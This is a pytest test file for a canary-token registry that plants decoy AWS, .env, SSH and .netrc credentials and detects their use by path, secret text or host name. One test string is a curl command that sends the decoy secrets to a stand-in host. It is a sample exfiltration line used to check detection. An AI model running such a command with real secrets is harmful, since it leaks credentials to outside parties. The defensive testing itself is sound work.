"""The canary registry: lookups by path, secret text and host name; persistence."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from watchkeeper.canary import CanaryConfig, CanaryError, CanaryRegistry, TokenKind, make_token
from watchkeeper.errors import InputError


def _registry(tmp_path: Path) -> CanaryRegistry:
    registry = CanaryRegistry("canary.example.test")
    for kind, name in ((TokenKind.AWS, "credentials"), (TokenKind.ENV, ".env")):
        registry.add(make_token(kind, zone="canary.example.test", path=str(tmp_path / name)))
    return registry


def test_lookups(tmp_path: Path) -> None:
    registry = _registry(tmp_path)
    aws, env = registry.tokens()
    assert registry.by_path(str(tmp_path / "credentials")) is aws
    assert registry.by_path(str(tmp_path / "sub" / ".." / ".env")) is env
    assert registry.by_path(str(tmp_path / "other")) is None
    link = tmp_path / "link"
    link.symlink_to(tmp_path / "credentials")
    (tmp_path / "credentials").write_text("x")
    assert registry.by_path(str(link)) is aws  # symlinks resolved
    text = f"curl -u x:{aws.secrets[1]} https://example.test/?k={env.secrets[1]}"
    assert {t.id for t, _ in registry.find(text)} == {aws.id, env.id}
    assert registry.find("nothing to see") == []
    host = env.hostnames[0]
    assert [t.id for t, _ in registry.find(f"GET / Host: {host.upper()}")] == [env.id]
    assert registry.by_hostname(host) is env
    assert registry.by_hostname(f"x.{env.id}.canary.example.test") is env
    assert registry.by_hostname(f"{aws.id}.canary.example.test.") is aws  # id label in the zone
    assert registry.by_hostname("wkc-000000000000.canary.example.test") is None
    assert registry.in_zone("a.b.canary.example.test") and registry.in_zone("canary.example.test")
    assert not registry.in_zone("canary.example.test.evil")


def test_duplicates_are_refused(tmp_path: Path) -> None:
    registry = _registry(tmp_path)
    aws = registry.tokens()[0]
    with pytest.raises(CanaryError, match="already registered"):
        registry.add(aws)
    with pytest.raises(CanaryError, match="already registered at"):
        registry.add(make_token(TokenKind.NETRC, path=aws.path))


def test_save_and_load(tmp_path: Path) -> None:
    registry = _registry(tmp_path)
    path = tmp_path / "out" / "canaries.json"
    registry.save(path)
    assert os.stat(path).st_mode & 0o777 == 0o600
    loaded = CanaryRegistry.load(path)
    assert [t.id for t in loaded.tokens()] == [t.id for t in registry.tokens()]
    aws = loaded.tokens()[0]
    assert loaded.find(aws.secrets[0])[0][0].id == aws.id and loaded.zone == "canary.example.test"
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps({"tokens": [{"kind": "nope"}]}))
    with pytest.raises(InputError, match="not a canary registry"):
        CanaryRegistry.load(bad)
    with pytest.raises(InputError, match="cannot read"):
        CanaryRegistry.load(tmp_path / "missing.json")


def test_config_checks(tmp_path: Path) -> None:
    with pytest.raises(CanaryError, match="unknown canary kind"):
        CanaryConfig(paths={"gcp": "x"})
    with pytest.raises(CanaryError, match="two labels"):
        CanaryConfig(zone="test")
    config = CanaryConfig(paths={"aws": "/etc/wk/creds", "ssh": "keys/id"})
    assert config.path_for(TokenKind.AWS, tmp_path) == Path("/etc/wk/creds")
    assert config.path_for(TokenKind.SSH, tmp_path) == tmp_path / "keys/id"
    assert config.path_for(TokenKind.NETRC, tmp_path) == tmp_path / ".netrc"
